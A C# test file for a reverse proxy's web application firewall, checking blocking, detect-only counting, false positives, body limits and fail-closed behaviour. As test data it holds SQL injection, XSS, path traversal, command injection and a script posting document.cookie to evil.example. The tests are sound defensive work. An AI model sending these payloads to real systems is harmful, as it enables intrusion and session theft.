using System.Net;
using System.Security.Cryptography;
using System.Text;
using Fulcrum.Core.Configuration;
using Fulcrum.Core.Observability;
using Fulcrum.L7.Tests.Support;
using Microsoft.AspNetCore.Http;

namespace Fulcrum.L7.Tests.Protection;

/// <summary>
/// A route's `waf`: the OWASP CRS 3.3 of Debian's modsecurity-crs in Debian's libmodsecurity3, for real, in front of
/// real Kestrel backends on 127.0.0.1 (scripts/install-deps.sh installs both).
/// </summary>
public sealed class WafTests
{
    /// <summary>The classic attacks of issue 15, each with the reason it is counted under.</summary>
    private static readonly (string Reason, string Target, string? UserAgent)[] Attacks =
    [
        ("sqli", "/items?id=1'%20OR%20'1'='1", null),
        ("xss", "/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E", null),
        ("lfi", "/download?file=..%2F..%2F..%2F..%2Fetc%2Fpasswd", null),
        ("scanner", "/", "sqlmap/1.7.2#stable (https://sqlmap.org)"),
        ("rce", "/tools/ping?host=127.0.0.1%3Buname%20-a", null),
    ];

    private static async Task<(Backends, ProxyHarness)> StartAsync(WafConfig waf)
    {
        var backends = await Backends.StartAsync("app");
        var route = Configs.ToPool("app") with { Name = "shop", Waf = waf };
        var proxy = await ProxyHarness.StartAsync(Configs.Of(Configs.Web(route), Configs.Pool("app", backends.All)));
        return (backends, proxy);
    }

    private static async Task<HttpStatusCode> SendAsync(HttpClient client, string target, string? userAgent)
    {
        using var request = new HttpRequestMessage(HttpMethod.Get, target);
        request.Headers.Host = "shop.example";
        request.Headers.Add("Accept", "*/*");
        request.Headers.Add("User-Agent", userAgent ?? "curl/8.5.0");
        using var response = await client.SendAsync(request);
        return response.StatusCode;
    }

    private static long Count(ProtectionStats stats, string decision, string reason = "") =>
        stats.All.Where(c => c.Protection == "waf" && c.Decision == decision && c.Reason == reason).Sum(c => c.Count);

    [Fact]
    public async Task Block_RefusesEachClassicAttackWith403_BeforeTheBackendHearsOfIt()
    {
        var (backends, proxy) = await StartAsync(new WafConfig { Mode = WafMode.Block });
        await using var _ = backends;
        await using var __ = proxy;

        foreach (var (reason, target, agent) in Attacks)
        {
            Assert.True(HttpStatusCode.Forbidden == await SendAsync(proxy.Client, target, agent), $"{reason}: {target} should be refused");
            Assert.True(Count(proxy.Store.Protection, "rejected", reason) == 1, $"{target} should count as rejected, {reason}");
        }

        Assert.Equal(0, backends[0].Requests);
        Assert.Equal(HttpStatusCode.OK, await SendAsync(proxy.Client, "/items?id=42", null));
        Assert.Equal(1, backends[0].Requests);
        Assert.Equal(1, Count(proxy.Store.Protection, "allowed"));
    }

    [Fact]
    public async Task Detect_LetsEachClassicAttackThrough_AndCountsItAsDetected()
    {
        var (backends, proxy) = await StartAsync(new WafConfig { Mode = WafMode.Detect });
        await using var _ = backends;
        await using var __ = proxy;

        foreach (var (reason, target, agent) in Attacks)
        {
            Assert.True(HttpStatusCode.OK == await SendAsync(proxy.Client, target, agent), $"{reason}: {target} should pass in detect mode");
            Assert.True(Count(proxy.Store.Protection, "detected", reason) == 1, $"{target} should count as detected, {reason}");
        }

        Assert.Equal(Attacks.Length, backends[0].Requests);
        Assert.DoesNotContain(proxy.Store.Protection.All, c => c.Protection == "waf" && c.Decision == "rejected");
    }

    [Fact]
    public async Task ParanoiaOne_LetsHundredsOfOrdinaryRequestsThrough_FormsJsonBodiesAndLongCookies_WithoutAFalsePositive()
    {
        var (backends, proxy) = await StartAsync(new WafConfig { Mode = WafMode.Block, Paranoia = 1 });
        await using var _ = backends;
        await using var __ = proxy;

        const int Requests = 400;
        var refused = new List<string>();
        // Four at a time, so transactions run on several threads against the one shared rule set.
        await Parallel.ForEachAsync(Enumerable.Range(0, Requests), new ParallelOptions { MaxDegreeOfParallelism = 4 }, async (i, ct) =>
        {
            using var request = OrdinaryTraffic.Request(i);
            var what = $"{request.Method} {request.RequestUri}";
            using var response = await proxy.Client.SendAsync(request, ct);
            if (response.StatusCode != HttpStatusCode.OK) lock (refused) refused.Add($"#{i} {what}: {(int)response.StatusCode}");
        });

        Assert.True(refused.Count == 0, "false positives:\n" + string.Join("\n", refused) + "\n" +
            string.Join("\n", proxy.Store.Protection.All.Where(c => c.Count > 0).Select(c => $"{c.Decision} {c.Reason} {c.Count}")));
        Assert.Equal(Requests, backends[0].Requests);
        Assert.Equal(Requests, Count(proxy.Store.Protection, "allowed"));
    }

    [Fact]
    public async Task AnAttackInAFormOrJsonBody_IsRefused()
    {
        var (backends, proxy) = await StartAsync(new WafConfig { Mode = WafMode.Block });
        await using var _ = backends;
        await using var __ = proxy;

        using var form = await proxy.Client.PostAsync("/login",
            new StringContent("user=admin&password=x'%20OR%201%3D1--", Encoding.UTF8, "application/x-www-form-urlencoded"));
        Assert.Equal(HttpStatusCode.Forbidden, form.StatusCode);
        using var json = await proxy.Client.PostAsync("/api/comments",
            new StringContent("""{"author":"x","text":"<script>fetch('//evil.example/'+document.cookie)</script>"}""", Encoding.UTF8, "application/json"));
        Assert.Equal(HttpStatusCode.Forbidden, json.StatusCode);
        Assert.Equal((1, 1), (Count(proxy.Store.Protection, "rejected", "sqli"), Count(proxy.Store.Protection, "rejected", "xss")));
        Assert.Equal(0, backends[0].Requests);
    }

    [Fact]
    public async Task ExcludedRules_NoLongerFlag_AndParanoiaTwo_RefusesWhatParanoiaOneLetsThrough()
    {
        // `' OR '1'='1` is libinjection's 942100 alone at paranoia 1: without it the request scores nothing.
        var (backends, proxy) = await StartAsync(new WafConfig { Mode = WafMode.Block, ExcludeRules = [new WafRuleRange(942100, 942100)] });
        await using (backends)
        await using (proxy)
        {
            Assert.Equal(HttpStatusCode.OK, await SendAsync(proxy.Client, Attacks[0].Target, null));
            Assert.Equal(HttpStatusCode.Forbidden, await SendAsync(proxy.Client, Attacks[1].Target, null)); // the rest of the CRS still runs
        }

        // "select ... from" in plain words is CRS 942260's pattern, a paranoia 2 rule.
        const string Sentence = "/search?q=select%20a%20book%20from%20the%20shelf";
        (backends, proxy) = await StartAsync(new WafConfig { Mode = WafMode.Block, Paranoia = 1 });
        await using (backends)
        await using (proxy) Assert.Equal(HttpStatusCode.OK, await SendAsync(proxy.Client, Sentence, null));
        (backends, proxy) = await StartAsync(new WafConfig { Mode = WafMode.Block, Paranoia = 2 });
        await using (backends)
        await using (proxy) Assert.Equal(HttpStatusCode.Forbidden, await SendAsync(proxy.Client, Sentence, null));
    }

    [Fact]
    public async Task ABodyOverTheLimit_IsRefusedWith413_OrInspectedInPart_AndTheBackendGetsEveryByte()
    {
        await using var backend = await HandlerBackend.StartAsync(HashBodyAsync);
        var pool = new PoolConfig { Name = "app", Backends = [new BackendConfig { Address = backend.Address }] };
        var reject = Configs.ToPool("app") with { Match = new MatchConfig { PathPrefix = "/reject/" }, Waf = new WafConfig { Mode = WafMode.Block, BodyLimit = 1024 } };
        var partial = Configs.ToPool("app") with { Waf = new WafConfig { Mode = WafMode.Block, BodyLimit = 1024, OverLimit = WafBodyOverLimit.InspectPartial } };
        await using var proxy = await ProxyHarness.StartAsync(Configs.Of(Configs.Web(reject, partial), pool));

        var plain = Encoding.ASCII.GetBytes(string.Concat(Enumerable.Repeat("name=ann&note=nothing+to+see+here&", 120))); // ~4 KiB
        using (var sized = await proxy.Client.PostAsync("/reject/", Form(plain))) Assert.Equal(HttpStatusCode.RequestEntityTooLarge, sized.StatusCode);
        using (var chunked = await proxy.Client.PostAsync("/reject/", Form(plain, chunked: true))) Assert.Equal(HttpStatusCode.RequestEntityTooLarge, chunked.StatusCode);
        using (var small = await proxy.Client.PostAsync("/reject/", Form(plain.AsSpan(0, 1000).ToArray()))) Assert.Equal(HttpStatusCode.OK, small.StatusCode);

        foreach (var isChunked in new[] { false, true })
        {
            using var passed = await proxy.Client.PostAsync("/partial/", Form(plain, isChunked));
            Assert.Equal(HttpStatusCode.OK, passed.StatusCode);
            Assert.Equal(Convert.ToHexString(SHA256.HashData(plain)), await passed.Content.ReadAsStringAsync());
        }

        var attack = Encoding.ASCII.GetBytes("q=%3Cscript%3Ealert(1)%3C%2Fscript%3E&");
        using (var early = await proxy.Client.PostAsync("/partial/", Form([.. attack, .. plain]))) Assert.Equal(HttpStatusCode.Forbidden, early.StatusCode);
        // Past the limit nothing is read: the price of inspect-partial, which the docs state.
        using (var late = await proxy.Client.PostAsync("/partial/", Form([.. plain, .. attack]))) Assert.Equal(HttpStatusCode.OK, late.StatusCode);
        Assert.Equal(2, Count(proxy.Store.Protection, "rejected", "body-too-large"));
    }

    private static HttpContent Form(byte[] body, bool chunked = false)
    {
        HttpContent content = chunked ? new StreamContent(new MemoryStream(body)) : new ByteArrayContent(body);
        content.Headers.ContentType = new("application/x-www-form-urlencoded");
        if (chunked) content.Headers.ContentLength = null;
        return content;
    }

    private static async Task HashBodyAsync(HttpContext context)
    {
        using var copy = new MemoryStream();
        await context.Request.Body.CopyToAsync(copy, context.RequestAborted);
        await context.Response.WriteAsync(Convert.ToHexString(SHA256.HashData(copy.ToArray())), context.RequestAborted);
    }

    [Fact]
    public async Task NoStateIsKeptPerClient_SoAScannerIsRefusedItself_ButLeavesNoMarkOnItsAddress()
    {
        // The CRS's IP reputation switched on, as a crs-setup.conf may: with the CRS as shipped, a request to a
        // scanner's URL marks its address and user agent (913120 sets ip.reput_block_flag) and 949100 refuses
        // the next request from them. Fulcrum removes that per-client state (libmodsecurity 3.0.9 reads it
        // without a lock, and keeps it until read): the scanner's own request is refused, the next one is not.
        var setup = Path.Combine(Directory.CreateTempSubdirectory("fulcrum-waf-").FullName, "crs-setup.conf");
        File.WriteAllText(setup, File.ReadAllText(WafConfig.DebianCrsSetup)
            + "\nSecAction \"id:900960,phase:1,nolog,pass,t:none,setvar:tx.do_reput_block=1,setvar:tx.reput_block_duration=300\"\n");
        var (backends, proxy) = await StartAsync(new WafConfig { Mode = WafMode.Block, CrsSetup = setup });
        await using var _ = backends;
        await using var __ = proxy;

        const string Browser = "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0";
        Assert.Equal(HttpStatusCode.Forbidden, await SendAsync(proxy.Client, "/nessustest", Browser));
        Assert.Equal(1, Count(proxy.Store.Protection, "rejected", "scanner"));
        Assert.Equal(HttpStatusCode.OK, await SendAsync(proxy.Client, "/", Browser));
        Directory.Delete(Path.GetDirectoryName(setup)!, recursive: true);
    }

    [Fact]
    public async Task RulesThatDoNotLoad_LeaveTheRoute503_NeverUnguarded()
    {
        var (backends, proxy) = await StartAsync(new WafConfig { Mode = WafMode.Block, Crs = "/nonexistent/crs" });
        await using var _ = backends;
        await using var __ = proxy;

        using var response = await proxy.Client.GetAsync("/");
        Assert.Equal(HttpStatusCode.ServiceUnavailable, response.StatusCode);
        Assert.Contains("web application firewall", await response.Content.ReadAsStringAsync());
        Assert.Equal(0, backends[0].Requests);
    }
}
